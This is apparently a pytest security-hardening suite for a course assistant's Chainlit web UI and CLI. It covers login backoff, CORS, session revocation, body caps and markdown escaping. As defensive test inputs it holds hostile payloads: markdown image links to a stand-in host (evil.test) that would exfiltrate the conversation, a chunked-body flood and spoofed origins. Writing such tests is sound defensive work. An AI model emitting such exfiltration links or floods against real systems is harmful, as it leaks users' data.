"""Issue 15, web and CLI side: the hostile-learner findings, each against the real Chainlit server or the real CLI.

Items: 4 demo user only on loopback; 5 chunked bodies capped; 6 CORS and socket origins; 7 sign-in backoff and
audit lines; 8 revocable sessions; 9 escaping, CSP and security headers (the browser part is in
test_ui_browser.py); 12 the launcher forwards SIGTERM and fails on a taken port; 13 the report download
survives another worker stopping; 14 refused messages are not stored and messages are rate-limited; and the low
items (feedback ownership, sharing disabled, NULL element props, rich markup and non-UTF-8 on the CLI, a
read-only learner database).
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import re
import secrets
import signal
import socket
import sqlite3
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import jwt
import pytest
import socketio
from conftest import free_port, make_settings, running_chat_server

from assistant.apps.ui import render, replies
from assistant.apps.ui.launch import ui_process
from assistant.core.errors import ConfigError
from assistant.core.settings import DatabaseSettings, Settings, UISettings
from assistant.core.types import Answer, Citation, Location
from assistant.planning.learners import LearnerStore
from assistant.planning.passwords import hash_password

RUN = secrets.token_hex(3)
ALICE, BOB, CAROL, DAVE, ERIN = (f"{n}-{RUN}" for n in ("alice", "bob", "carol", "dave", "erin"))
PASSWORDS = {name: secrets.token_urlsafe(12) for name in (ALICE, BOB, CAROL, DAVE, ERIN)}
ROLES = {ALICE: "learner", BOB: "learner", CAROL: "lnd", DAVE: "lnd", ERIN: "learner"}
SECRET = secrets.token_urlsafe(32)
PER_MINUTE = 6
MAX_CHARS = 2000
CP = [sys.executable, "-m", "assistant.apps.cli"]


def users_spec(roles: dict[str, str]) -> str:
    return ",".join(f"{name}:{hash_password(PASSWORDS[name])}:{role}" for name, role in roles.items())


def env_for(settings: Settings, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("COURSEPILOT_")}
    env.update(
        {
            "COURSEPILOT_LIBRARY_DIR": str(settings.library.dir),
            "COURSEPILOT_INDEX_DIR": str(settings.index.dir),
            "COURSEPILOT_DATABASE_URL": settings.database.url,
            "HF_HUB_OFFLINE": "1",
            **extra,
        }
    )
    return env


def run_cli(args: list[str], env: dict[str, str], cwd: Path, timeout: float = 300) -> subprocess.CompletedProcess:
    return subprocess.run(CP + args, env=env, cwd=cwd, capture_output=True, timeout=timeout)


# -- item 4: the demo user -----------------------------------------------------------------------------------
def test_demo_user_only_on_loopback(tmp_path: Path) -> None:
    settings = make_settings(tmp_path)
    for host in ("127.0.0.1", "::1", "localhost"):
        ui_process(settings, host, 8000, secret_file=tmp_path / "secret")  # no error
    with pytest.raises(ConfigError) as refused:
        ui_process(settings, "0.0.0.0", 8000, secret_file=tmp_path / "secret")
    assert "coursepilot hash-password" in str(refused.value) and "COURSEPILOT_UI_ALLOW_DEMO=1" in str(refused.value)
    allowed = settings.model_copy(update={"ui": UISettings(allow_demo=True)})
    ui_process(allowed, "0.0.0.0", 8000, secret_file=tmp_path / "secret")
    configured = settings.model_copy(update={"ui": UISettings(users=users_spec({ALICE: "learner"}))})
    ui_process(configured, "0.0.0.0", 8000, secret_file=tmp_path / "secret")


def test_cli_ui_refuses_the_demo_user_on_all_interfaces(sample_settings: Settings, tmp_path: Path) -> None:
    env = env_for(sample_settings, COURSEPILOT_UI_USERS="")
    result = run_cli(["ui", "--host", "0.0.0.0", "--port", str(free_port())], env, tmp_path, timeout=120)
    assert result.returncode == 2, result.stderr.decode()[-2000:]
    stderr = " ".join(result.stderr.decode().split())
    assert "demo" in stderr and "coursepilot hash-password" in stderr and "COURSEPILOT_UI_ALLOW_DEMO=1" in stderr


# -- item 7 (unit): the backoff itself ---------------------------------------------------------------------
class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def test_login_backoff_per_user_and_per_address() -> None:
    from assistant.apps.ui.guards import LoginThrottle

    clock = Clock()
    throttle = LoginThrottle(max_user=3, max_address=5, clock=clock)
    for _ in range(3):
        assert throttle.retry_after("amy", "10.0.0.1") == 0
        throttle.failed("amy", "10.0.0.1")
    assert throttle.retry_after("amy", "10.0.0.9") == pytest.approx(1.0)  # the name is paused from anywhere
    assert throttle.retry_after("ben", "10.0.0.1") == 0  # the address is not (yet)
    clock.now += 1.01
    assert throttle.retry_after("amy", "10.0.0.1") == 0
    throttle.failed("amy", "10.0.0.1")
    assert throttle.retry_after("amy", "10.0.0.1") == pytest.approx(2.0)  # doubling
    throttle.failed("ben", "10.0.0.1")  # 5th failure from this address
    assert throttle.retry_after("cat", "10.0.0.1") == pytest.approx(1.0)
    assert throttle.retry_after("cat", "10.0.0.2") == 0
    throttle.refused("10.0.0.1")  # trying while paused: the address waits longer, the name does not
    assert throttle.retry_after("cat", "10.0.0.1") == pytest.approx(2.0)
    throttle.succeeded("amy")
    assert throttle.retry_after("amy", "10.0.0.2") == 0  # the name is cleared, the address is not
    assert throttle.retry_after("amy", "10.0.0.1") > 0
    clock.now += 31 * 60  # forgotten after a quiet half hour
    assert throttle.retry_after("cat", "10.0.0.1") == 0


def test_message_gate_refuses_long_and_fast_messages() -> None:
    from assistant.apps.ui.guards import MessageGate

    clock = Clock()
    gate = MessageGate(max_chars=10, per_minute=2, clock=clock)
    assert gate.check("amy", "m1", "x" * 11).reason == "too_long"  # type: ignore[union-attr]
    assert gate.check("amy", "m2", "hi") is None
    assert gate.check("amy", "m2", "hi") is None  # same message asked twice (data layer, then on_message)
    assert gate.check("amy", "m3", "hi") is None
    assert gate.check("amy", "m4", "hi").reason == "rate"  # type: ignore[union-attr]
    assert gate.check("ben", "m5", "hi") is None  # per learner
    clock.now += 60
    assert gate.check("amy", "m6", "hi") is None


# -- item 9 (unit): course text and model output into Markdown -------------------------------------------------
def rendered_html(markdown: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable("table").render(markdown)


HOSTILE = "Budgets ![p](http://evil.test/x.png) [click](http://evil.test/) <http://evil.test/a> www.evil.test *x*"


def hostile_answer() -> Answer:
    location = Location(
        course_id="c",
        course_title=f"Course {HOSTILE}",
        module="m [1].pdf",
        module_title="Module ![m](http://evil.test/m.png)",
        section=("Sec ](x)",),
        page=2,
    )
    citation = Citation(key="1", location=location, label=location.label(), snippet=f"Passage {HOSTILE}", chunk_id="k")
    return Answer(
        question="q",
        standalone_question="q",
        text=f"The answer [1]. ![](http://evil.test/?q=conversation) {HOSTILE}",
        citations=[citation],
        refused=False,
        mode="generative",
    )


def test_no_image_or_link_from_course_text_or_model_output() -> None:
    rendered = render.render_answer(hostile_answer())
    panels = [s.content for s in rendered.sources]
    names = [s.name for s in rendered.sources]
    for markdown in [rendered.markdown, *panels]:
        html = rendered_html(markdown)
        assert "<img" not in html and "href=" not in html, html
        for name in names:  # Chainlit turns each name into the link text of an element link
            markdown = markdown.replace(name, "")
        markdown = re.sub(r"`[^`]*`", "", markdown)  # URLs are shown as inline code: never auto-linked
        assert "http://evil" not in markdown  # no bare URL for GFM to auto-link either
        assert "www.evil" not in markdown
    name = names[0]
    assert name.startswith("[1] Course") and "://" not in name
    assert not set(name[3:]) & set("[]*_`<>")
    assert f"- {name}" in rendered.markdown  # the Sources line holds the element name verbatim (the link works)
    assert "Passage Budgets" in panels[0]


# -- item 12: the launcher ---------------------------------------------------------------------------------
def test_ui_on_a_taken_port_exits_non_zero(sample_settings: Settings, tmp_path: Path) -> None:
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        from assistant.apps.ui.launch import check_port

        with pytest.raises(ConfigError):
            check_port("127.0.0.1", port)
        env = env_for(sample_settings, COURSEPILOT_UI_USERS=users_spec({ALICE: "learner"}))
        result = run_cli(["ui", "--port", str(port)], env, tmp_path, timeout=180)
    assert result.returncode == 2, result.stderr.decode()[-2000:]
    assert f"{port}" in result.stderr.decode() and "already" in " ".join(result.stderr.decode().split())


def port_open(port: int) -> bool:
    with socket.socket() as sock:
        sock.settimeout(0.5)
        return sock.connect_ex(("127.0.0.1", port)) == 0


def children_of(pid: int) -> list[int]:
    path = Path(f"/proc/{pid}/task/{pid}/children")
    return [int(p) for p in path.read_text().split()] if path.exists() else []


@pytest.mark.slow
def test_sigterm_on_coursepilot_ui_stops_the_server(sample_settings: Settings, tmp_path: Path) -> None:
    port = free_port()
    env = env_for(
        sample_settings,
        COURSEPILOT_UI_USERS=users_spec({ALICE: "learner"}),
        COURSEPILOT_UI_AUTH_SECRET=SECRET,
        COURSEPILOT_DATABASE_URL=f"sqlite:///{tmp_path / 'ui.db'}",
    )
    log = open(tmp_path / "ui.log", "wb")  # noqa: SIM115 - closed below
    launcher = subprocess.Popen([*CP, "ui", "--port", str(port)], env=env, cwd=tmp_path, stdout=log, stderr=log)
    try:
        deadline = time.time() + 180
        while not port_open(port):
            assert launcher.poll() is None and time.time() < deadline, (tmp_path / "ui.log").read_text()[-3000:]
            time.sleep(0.5)
        child = children_of(launcher.pid)
        assert child, "the launcher has no server child"
        launcher.send_signal(signal.SIGTERM)
        code = launcher.wait(timeout=60)
        assert code == 0
        assert not port_open(port), "the Chainlit child still serves on the port after `kill -TERM` on the launcher"
        assert not Path(f"/proc/{child[0]}").exists() or "zombie" in Path(f"/proc/{child[0]}/status").read_text()
    finally:
        if launcher.poll() is None:
            launcher.kill()
        for pid in children_of(launcher.pid) if launcher.poll() is None else []:
            os.kill(pid, signal.SIGKILL)
        log.close()


# -- low items: the CLI --------------------------------------------------------------------------------------
def test_cli_progress_with_rich_markup_in_goals_and_ids(tmp_path: Path) -> None:
    settings = make_settings(tmp_path)
    store = LearnerStore(settings.database.url)
    from assistant.core.types import Playlist

    store.save_playlist("amy", Playlist(goal="budgets [/] and [bold]more", items=[], covered=True))
    env = env_for(settings)
    shown = run_cli(["progress", "amy"], env, tmp_path)
    assert shown.returncode == 0, shown.stderr.decode()
    assert "budgets [/] and [bold]more" in shown.stdout.decode()
    marked = run_cli(["progress", "amy", "--done", "x/[/]y"], env, tmp_path)
    assert marked.returncode == 0, marked.stderr.decode()
    assert "x/[/]y" in marked.stdout.decode()
    assert [p.item_id for p in store.progress("amy")] == ["x/[/]y"]


def test_cli_ask_with_a_latin1_byte_is_bad_input(tmp_path: Path) -> None:
    settings = make_settings(tmp_path)
    result = subprocess.run(
        [*CP, "ask", os.fsdecode(b"caf\xe9 pivot?")], env=env_for(settings), cwd=tmp_path, capture_output=True
    )
    assert result.returncode == 2, result.stderr.decode(errors="replace")
    assert "not UTF-8" in result.stderr.decode(errors="replace") and "0xe9" in result.stderr.decode(errors="replace")


def test_cli_writes_to_a_read_only_learner_database(tmp_path: Path) -> None:
    settings = make_settings(tmp_path)
    LearnerStore(settings.database.url).set_progress("amy", "first")
    read_only = f"sqlite:///file:{tmp_path / 'coursepilot.db'}?mode=ro&uri=true"
    env = env_for(settings, COURSEPILOT_DATABASE_URL=read_only)
    result = run_cli(["progress", "amy", "--done", "second"], env, tmp_path)
    stderr = " ".join(result.stderr.decode().split())
    assert result.returncode == 3, stderr
    assert "read-only" in stderr and "Fix:" in stderr and "INSERT" not in stderr and "sqlite3." not in stderr
    listed = run_cli(["progress", "amy", "--json"], env, tmp_path)  # reading still works
    assert listed.returncode == 0 and [p["item_id"] for p in json.loads(listed.stdout)["progress"]] == ["first"]


# -- the real server ---------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def web(sample_settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """One chat server for the HTTP and socket checks, with five users (carol and dave are L&D staff)."""
    tmp = tmp_path_factory.mktemp("web")
    settings = sample_settings.model_copy(update={"database": DatabaseSettings(url=f"sqlite:///{tmp / 'ui.db'}")})
    with running_chat_server(
        settings,
        tmp,
        users_spec(ROLES),
        "hardening-web-server.log",
        auth_secret=SECRET,
        messages_per_minute=PER_MINUTE,
        login_max_failures_address=12,
    ) as (base, running):
        tokens = {name: login(base, name) for name in (ALICE, BOB, CAROL, DAVE)}
        yield {"base": base, "settings": running, "tmp": tmp, "log": tmp / "server.log", "tokens": tokens}


def login(base: str, user: str, password: str | None = None, **headers: str) -> str:
    response = httpx.post(f"{base}/login", data={"username": user, "password": password or PASSWORDS[user]})
    response.raise_for_status()
    return str(response.cookies["access_token"])


def cookie(token: str) -> dict[str, str]:
    return {"Cookie": f"access_token={token}"}


async def chat(base: str, token: str, texts: list[str], origin: str | None = None) -> dict[str, Any]:
    """Connect like the page, send each text as a turn and wait for its end; returns thread, replies, events."""
    client = socketio.AsyncClient(reconnection=False)
    events: list[tuple[str, Any]] = []
    changed = asyncio.Event()

    @client.on("*")
    async def on_any(event: str, *args: Any) -> None:
        events.append((event, args[0] if args else None))
        changed.set()

    async def until(check: Any, timeout: float = 120) -> Any:
        deadline = time.monotonic() + timeout
        while (value := check()) is None:
            changed.clear()
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                raise TimeoutError(f"no reply; events: {[e for e, _ in events][-20:]}")
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(changed.wait(), remaining)
        return value

    headers = cookie(token) | ({"Origin": origin} if origin else {})
    await client.connect(
        base,
        socketio_path="/ws/socket.io",
        transports=["websocket"],
        headers=headers,
        auth={"clientType": "webapp", "sessionId": str(uuid.uuid4()), "threadId": None, "userEnv": "{}"},
        wait_timeout=30,
    )
    try:
        await client.emit("connection_successful")
        thread = await until(
            lambda: next(
                (d["threadId"] for e, d in events if e == "new_message" and isinstance(d, dict) and d.get("threadId")),
                None,
            )
        )
        replies: list[str] = []
        steps: list[str] = []
        for text in texts:
            start = len(events)
            step = str(uuid.uuid4())
            steps.append(step)
            message = {
                "threadId": thread,
                "id": step,
                "name": "learner",
                "type": "user_message",
                "output": text,
                "createdAt": datetime.now(UTC).isoformat(),
            }
            await client.emit("client_message", {"message": message, "fileReferences": []})

            def turn_end(start: int = start) -> int | None:
                began = False
                for i in range(start, len(events)):
                    began = began or events[i][0] == "task_start"
                    if began and events[i][0] == "task_end":
                        return i
                return None

            end = await until(turn_end)
            outputs = [
                str(d.get("output") or "")
                for e, d in events[start:end]
                if e in ("new_message", "update_message")
                and isinstance(d, dict)
                and d.get("type") == "assistant_message"
            ]
            replies.append(outputs[-1] if outputs else "")
        await asyncio.sleep(0.5)  # the data layer writes in background tasks
        return {"thread": thread, "replies": replies, "steps": steps, "events": events}
    finally:
        await client.disconnect()


async def socket_refused(base: str, token: str, origin: str | None = None) -> bool:
    client = socketio.AsyncClient(reconnection=False)
    headers = cookie(token) | ({"Origin": origin} if origin else {})
    try:
        await client.connect(
            base,
            socketio_path="/ws/socket.io",
            transports=["websocket"],
            headers=headers,
            auth={"clientType": "webapp", "sessionId": str(uuid.uuid4()), "threadId": None, "userEnv": "{}"},
            wait_timeout=15,
        )
    except socketio.exceptions.ConnectionError:
        return True
    await client.disconnect()
    return False


def chunked_post(base: str, path: str, total: int, headers: dict[str, str] | None = None) -> tuple[int, int]:
    """POST `total` bytes with Transfer-Encoding: chunked (no Content-Length); (status, bytes sent)."""
    host, port = base.removeprefix("http://").split(":")
    extra = "".join(f"{k}: {v}\r\n" for k, v in (headers or {}).items())
    head = (
        f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: application/json\r\n"
        f"Transfer-Encoding: chunked\r\n{extra}\r\n"
    )
    piece = b"[" + b"1," * 32767 + b"1"  # 64 KiB of a JSON array that never closes
    chunk = f"{len(piece):x}\r\n".encode() + piece + b"\r\n"
    sent = 0
    with socket.create_connection((host, int(port)), timeout=60) as sock:
        sock.sendall(head.encode())
        try:
            while sent < total:
                sock.sendall(chunk)
                sent += len(piece)
            sock.sendall(b"0\r\n\r\n")
        except (BrokenPipeError, ConnectionResetError):
            pass  # the server stopped reading and closed: what the cap is for
        response = b""
        with contextlib.suppress(ConnectionResetError, TimeoutError):
            while b"\r\n" not in response:
                data = sock.recv(65536)
                if not data:
                    break
                response += data
    match = re.match(rb"HTTP/1\.1 (\d{3})", response)
    return (int(match.group(1)) if match else 0), sent


def test_chunked_bodies_are_capped_as_they_stream(web: dict[str, Any]) -> None:
    base, tokens = web["base"], web["tokens"]
    status, _ = chunked_post(base, "/project/threads", 8 * 1024 * 1024)
    assert status == 413  # before the fix: the whole body was read, then 401
    status, _ = chunked_post(base, "/project/threads", 8 * 1024 * 1024, cookie(tokens[ALICE]))
    assert status == 413  # signed in: before the fix, the body was processed
    small = httpx.post(
        f"{base}/project/threads", json={"pagination": {"first": 5}, "filter": {}}, headers=cookie(tokens[ALICE])
    )
    assert small.status_code == 200  # an ordinary request still goes through


def test_cors_only_for_the_apps_own_origin(web: dict[str, Any]) -> None:
    base, token = web["base"], web["tokens"][ALICE]
    other = f"http://127.0.0.1:{free_port()}"  # same site, another port: another origin
    read = httpx.get(f"{base}/user", headers=cookie(token) | {"Origin": other})
    assert read.status_code == 200 and "access-control-allow-origin" not in read.headers
    preflight = httpx.options(
        f"{base}/project/threads",
        headers={
            "Origin": other,
            "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Headers": "content-type",
        },
    )
    assert preflight.headers.get("access-control-allow-origin") is None
    assert asyncio.run(socket_refused(base, token, origin=other))
    assert asyncio.run(socket_refused(base, token, origin="https://evil.example.com"))
    assert not asyncio.run(socket_refused(base, token, origin=base))  # the page itself connects


def test_extra_origins_are_a_setting() -> None:
    from assistant.apps.ui.security import parse_origins, socket_origin_check

    check = socket_origin_check(parse_origins("https://lms.example.com/, https://b.example"))
    environ = {"wsgi.url_scheme": "http", "HTTP_HOST": "cp.local:8000"}
    assert check("http://cp.local:8000", environ) and check("https://lms.example.com", environ)
    assert not check("http://cp.local:8001", environ) and not check("https://evil.example", environ)


def test_security_headers_and_secure_cookies(web: dict[str, Any]) -> None:
    base = web["base"]
    page = httpx.get(f"{base}/")
    csp = page.headers.get("content-security-policy", "")
    assert "img-src 'self' data: blob:" in csp and "frame-ancestors 'none'" in csp and "default-src 'self'" in csp
    assert page.headers.get("x-frame-options") == "DENY" and page.headers.get("x-content-type-options") == "nosniff"
    plain = httpx.post(f"{base}/login", data={"username": BOB, "password": PASSWORDS[BOB]})
    assert "secure" not in plain.headers["set-cookie"].lower()  # plain http on loopback: no Secure, or no sign-in
    proxied = httpx.post(
        f"{base}/login", data={"username": BOB, "password": PASSWORDS[BOB]}, headers={"X-Forwarded-Proto": "https"}
    )
    assert proxied.status_code == 200 and "; secure" in proxied.headers["set-cookie"].lower()


def test_signing_out_one_device_keeps_the_other_signed_in(web: dict[str, Any]) -> None:
    """Two sign-ins of one user within a second used to get the same token, so signing out one (its hash is
    revoked) signed out the other: seen as other tests' BOB session turning 401 in a fast run."""
    base = web["base"]
    phone, laptop = login(base, ALICE), login(base, ALICE)
    assert phone != laptop
    assert httpx.post(f"{base}/logout", headers=cookie(phone)).status_code == 200
    assert httpx.get(f"{base}/user", headers=cookie(phone)).status_code == 401
    assert httpx.get(f"{base}/user", headers=cookie(laptop)).status_code == 200


def test_sessions_are_short_and_sign_out_revokes_the_token(web: dict[str, Any]) -> None:
    base = web["base"]
    token = login(base, BOB)
    claims = jwt.decode(token, SECRET, algorithms=["HS256"])
    assert claims["exp"] - claims["iat"] == UISettings().session_minutes * 60 < 24 * 3600
    assert httpx.get(f"{base}/user", headers=cookie(token)).status_code == 200
    assert httpx.post(f"{base}/logout", headers=cookie(token)).status_code == 200
    assert httpx.get(f"{base}/user", headers=cookie(token)).status_code == 401
    assert asyncio.run(socket_refused(base, token))
    store = LearnerStore(web["settings"].database.url)  # every worker on this database refuses it too
    from assistant.apps.ui.sessions import token_key

    assert store.session_revoked(token_key(token))


def test_refused_messages_are_not_stored_and_messages_are_rate_limited(web: dict[str, Any]) -> None:
    base, token = web["base"], web["tokens"][ALICE]
    long = "why " * 225_000  # 900,000 characters
    texts = [long, long, *["/report"] * (PER_MINUTE + 1)]
    result = asyncio.run(chat(base, token, texts))
    web["alice_thread"], web["alice_step"] = result["thread"], result["steps"][2]  # a stored one
    replies = result["replies"]
    assert all("I can take up to" in r for r in replies[:2]), [r[:200] for r in replies]
    assert all("for L&D staff" in r for r in replies[2 : 2 + PER_MINUTE])
    assert "faster than I can take them" in replies[-1]
    with sqlite3.connect(web["tmp"] / "ui.db") as db:
        stored = db.execute(
            "SELECT id, length(output) FROM steps WHERE \"threadId\" = ? AND type = 'user_message'", (result["thread"],)
        ).fetchall()
    assert max(length for _, length in stored) < MAX_CHARS
    assert {step for step, _ in stored} == set(result["steps"][2 : 2 + PER_MINUTE])  # refused: not stored


def test_feedback_sharing_and_element_props_rules(web: dict[str, Any]) -> None:
    base, tokens = web["base"], web["tokens"]
    if "alice_thread" not in web:
        result = asyncio.run(chat(base, tokens[ALICE], ["/report"]))
        web["alice_thread"], web["alice_step"] = result["thread"], result["steps"][-1]
    thread, step = web["alice_thread"], web["alice_step"]
    deadline = time.monotonic() + 30  # Chainlit stores steps in background tasks
    while time.monotonic() < deadline:
        with sqlite3.connect(web["tmp"] / "ui.db") as db:
            if db.execute('SELECT 1 FROM steps WHERE "id" = ?', (step,)).fetchone():
                break
        time.sleep(0.3)
    feedback = {"feedback": {"forId": step, "value": 0, "threadId": thread}, "sessionId": "x"}
    assert httpx.put(f"{base}/feedback", json=feedback, headers=cookie(tokens[BOB])).status_code == 404
    own = httpx.put(f"{base}/feedback", json=feedback, headers=cookie(tokens[ALICE]))
    assert own.status_code == 200
    feedback_id = own.json()["feedbackId"]
    gone = httpx.request("DELETE", f"{base}/feedback", json={"feedbackId": feedback_id}, headers=cookie(tokens[BOB]))
    assert gone.status_code == 404
    with sqlite3.connect(web["tmp"] / "ui.db") as db:
        assert db.execute('SELECT count(*) FROM feedbacks WHERE "id" = ?', (feedback_id,)).fetchone() == (1,)

    share = {"threadId": thread, "isShared": True}
    assert httpx.put(f"{base}/project/thread/share", json=share, headers=cookie(tokens[ALICE])).status_code == 403
    assert httpx.get(f"{base}/project/share/{thread}", headers=cookie(tokens[BOB])).status_code == 404

    element = str(uuid.uuid4())
    with sqlite3.connect(web["tmp"] / "ui.db") as db:
        db.execute(
            'INSERT INTO elements ("id", "threadId", "type", "name", "display", "props") VALUES (?, ?, ?, ?, ?, NULL)',
            (element, thread, "text", "note", "side"),
        )
    got = httpx.get(f"{base}/project/thread/{thread}/element/{element}", headers=cookie(tokens[ALICE]))
    assert got.status_code == 200 and got.json()["props"] == {}
    other = httpx.get(f"{base}/project/thread/{thread}/element/{element}", headers=cookie(tokens[BOB]))
    assert other.status_code in (401, 403, 404)


@pytest.mark.slow
def test_report_download_and_revocation_across_two_workers(web: dict[str, Any], sample_settings: Settings) -> None:
    """carol gets /report from worker 1; worker 2 (same checkout, same secret and database) runs with dave
    removed and carol made a learner, so their old sessions are refused there; when worker 2 stops (Chainlit then
    deletes the checkout's .files folder) carol's report still downloads from worker 1."""
    base, tokens = web["base"], web["tokens"]
    result = asyncio.run(chat(base, tokens[CAROL], ["/report"]))
    urls = [d.get("url") for e, d in result["events"] if e == "element" and isinstance(d, dict)]
    urls += [
        el.get("url")
        for e, d in result["events"]
        if e in ("new_message", "update_message") and isinstance(d, dict)
        for el in d.get("elements") or []
    ]
    report_url = next((u for u in urls if u and "report" in u), None)
    assert report_url, f"no report element URL in {[e for e, _ in result['events']]}"
    first = httpx.get(f"{base}{report_url}", headers=cookie(tokens[CAROL]))
    assert first.status_code == 200 and "<html" in first.text.lower()
    assert httpx.get(f"{base}{report_url}", headers=cookie(tokens[BOB])).status_code == 404

    changed = {ALICE: "learner", BOB: "learner", CAROL: "learner"}  # dave removed, carol no longer L&D
    tmp2 = web["tmp"] / "worker2"
    tmp2.mkdir()
    with running_chat_server(
        web["settings"], tmp2, users_spec(changed), "hardening-web-worker2.log", auth_secret=SECRET
    ) as (base2, _):
        assert httpx.get(f"{base2}/user", headers=cookie(tokens[ALICE])).status_code == 200
        assert httpx.get(f"{base2}/user", headers=cookie(tokens[DAVE])).status_code == 401
        assert httpx.get(f"{base2}/user", headers=cookie(tokens[CAROL])).status_code == 401
        assert asyncio.run(socket_refused(base2, tokens[DAVE]))
        assert httpx.get(f"{base2}{report_url}", headers=cookie(login(base2, CAROL))).status_code == 404
    after = httpx.get(f"{base}{report_url}", headers=cookie(tokens[CAROL]))
    assert after.status_code == 200 and after.text == first.text


def test_sign_in_backoff_and_audit_lines(web: dict[str, Any]) -> None:
    base = web["base"]
    wrong = [f"wrong-{secrets.token_hex(4)}" for _ in range(5)]
    for password in wrong:
        assert httpx.post(f"{base}/login", data={"username": ERIN, "password": password}).status_code == 401
    paused = httpx.post(f"{base}/login", data={"username": ERIN, "password": PASSWORDS[ERIN]})
    assert paused.status_code == 429 and int(paused.headers["retry-after"]) >= 1  # before: 200 straight after
    server_log = web["log"].read_text(errors="replace")
    failures = [line for line in server_log.splitlines() if f"sign-in failed for user '{ERIN}' from 127.0.0.1" in line]
    assert len(failures) == 5
    assert not any(password in server_log for password in wrong) and PASSWORDS[ERIN] not in server_log
    time.sleep(1.1)  # the first pause is 1 s (a pause, not a timing assertion: the next sign-in must work)
    assert httpx.post(f"{base}/login", data={"username": ERIN, "password": PASSWORDS[ERIN]}).status_code == 200


def test_sign_in_backoff_per_address(web: dict[str, Any]) -> None:
    """Last in this module: afterwards 127.0.0.1 is paused for every name. 16 attempts from one address
    (failed, or refused while paused: both count) leave it paused for 2**(16 - 12) = 16 s."""
    base = web["base"]
    statuses = [
        httpx.post(f"{base}/login", data={"username": f"nobody{n}-{RUN}", "password": "x"}).status_code
        for n in range(16)
    ]
    assert set(statuses) == {401, 429}
    assert httpx.post(f"{base}/login", data={"username": ALICE, "password": PASSWORDS[ALICE]}).status_code == 429


@pytest.mark.slow
def test_read_only_learner_database_in_the_ui(sample_settings: Settings, tmp_path: Path) -> None:
    """The UI keeps answering, tells the learner once that history is not being saved, and xAPI still gets the
    statements (before the fix the failed question-log write skipped them, and nothing was said)."""
    from test_xapi import Receiver, xapi_settings

    from assistant.apps.ui.datalayer import ensure_schema

    path = tmp_path / "ui.db"
    LearnerStore(f"sqlite:///{path}")  # every table exists, then the file is opened read-only
    ensure_schema(f"sqlite:///{path}")
    receiver = Receiver()
    settings = sample_settings.model_copy(
        update={
            "database": DatabaseSettings(url=f"sqlite:///file:{path}?mode=ro&uri=true"),
            "xapi": xapi_settings(receiver.endpoint),
        }
    )
    try:
        with running_chat_server(
            settings, tmp_path, users_spec({ALICE: "learner"}), "hardening-web-readonly.log", auth_secret=SECRET
        ) as (base, _):
            token = login(base, ALICE)
            result = asyncio.run(chat(base, token, ["What is the SBI model?", "How do I refresh a pivot table?"]))
            texts = [
                str(d.get("output") or "")
                for e, d in result["events"]
                if e == "new_message" and isinstance(d, dict) and d.get("type") == "assistant_message"
            ]
            assert sum(replies.NOT_SAVED in t for t in texts) == 1, texts  # said once, not on every answer
            assert any("SBI" in t for t in texts)
            deadline = time.monotonic() + 60
            while len(receiver.statements) < 4 and time.monotonic() < deadline:
                time.sleep(0.5)
            verbs = [s["verb"]["id"].rsplit("/", 1)[-1] for s in receiver.statements]
            assert verbs.count("asked") == 2 and verbs.count("answered") == 2, verbs
    finally:
        receiver.stop()
